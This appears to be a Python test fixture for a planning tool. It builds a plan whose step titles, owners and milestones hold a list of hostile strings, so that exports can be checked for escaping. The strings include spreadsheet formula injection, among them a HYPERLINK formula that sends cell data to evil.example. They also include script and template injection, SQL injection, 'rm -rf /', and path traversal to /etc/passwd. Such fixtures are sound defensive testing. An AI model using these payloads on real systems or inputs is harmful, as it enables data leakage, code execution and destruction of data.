"""Titles that nobody should write, and plans that are full of them."""

from __future__ import annotations

from typing import Any

from stepladder.data.formats.plan import Plan
from tests.support import handmade

STRINGS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '"; =1+1',
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- stepladder SL-AAAAAAAA -->",
    "--> <b>bold</b>",
    "]]>",
    "<![CDATA[ x ]]>",
    "&lt;b&gt; &amp;amp; &#60;",
    "${x}",
    "${missing_macro} -8<- ->8-",
    "{{include(Secret)}}",
    "{{7*7}} {% raw %}",
    "{noformat} h1. Big {code}",
    "/close",
    "/assign @root",
    "@team please look",
    "#1 and fixes #2, GH-3, owner/repo#4",
    "!http://evil.example/x.png!",
    "![pixel](http://evil.example/x.png)",
    "[click](javascript:alert(1))",
    "`code` *bold* _it_ ~gone~ | cell",
    "section: done, crit, 2027-01-01, 1d",
    "click a call alert(1)",
    "%%{init: {'theme':'dark'}}%% ; comment",
    "BEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT",
    "semi;colon, comma\\backslash\\n",
    '"quoted" and \\"escaped\\"',
    "null\x00byte bell\x07 escape\x1b[31m vertical\x0b",
    "\u202eright to left\u202c and \u200bzero\u200d width\ufeff",
    "lone \ufffe\uffff noncharacters",
    "設備の保護と監視 — 漢字",
    "🏭🔒 emoji \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "e\u0301\u0301\u0301\u0301 stacked",
    "x" * 4000,
    "many words " * 360,
    "line\nbreak\n\nand more",
    "$E=mc^2$ $$x$$",
    "; rm -rf / && echo | cat",
    "%s %d %n {0} {}",
    "Robert'); DROP TABLE steps;--",
    "../../etc/passwd",
    "CON",
    "   ",
]


def _step(k: int, text: str) -> dict[str, Any]:
    needs = [{"step": f"s{k - 1}.level.2"}] if k % 4 else []
    return {
        "id": f"s{k}.level.2",
        "title": text,
        "once": 100 + k,
        "per_year": k,
        "effort": {"security": 2},
        "needs": needs,
    }


def plan() -> Plan:
    """A step, a milestone, an owner and a group with every string; the steps need one another in a row of four."""
    count = len(STRINGS)
    steps = [_step(k, text) for k, text in enumerate(STRINGS)]
    periods = [handmade.period(t) for t in range(8)]
    asked = handmade.problem(
        title="Plan <b>&amp;</b> =1+1 ${x}", steps=steps, windows=[], threats=[], appetite=[], periods=periods
    )
    told = handmade.context(
        parameters=[
            {
                "id": f"s{k}.level",
                "system": None,
                "practice": text,
                "groups": [text],
                "scale": text,
                "levels": {"2": text},
                "current": 1,
                "target": 2,
            }
            for k, text in enumerate(STRINGS)
        ],
        milestones=[
            {"title": text, "date": "2028-12-31", "reason": text, "source": text, "steps": [f"s{k}.level.2"]}
            for k, text in enumerate(STRINGS)
            if text.strip()
        ],
        steps={
            f"s{k}.level.2": {"parameter": f"s{k}.level", "level": 2, "owner": text} for k, text in enumerate(STRINGS)
        },
        years=[{"label": "2027 =1", "from": 0, "to": 3}, {"label": "2028", "from": 4, "to": 7}],
        teams={"security": STRINGS[0]},
        origins={
            f"/steps/{k}/once": {"from": "scenario", "at": text, "source": text}
            for k, text in enumerate(STRINGS[:count])
        },
    )
    return handmade.plan(asked, {f"s{k}.level.2": k % 4 for k in range(count)}, told)
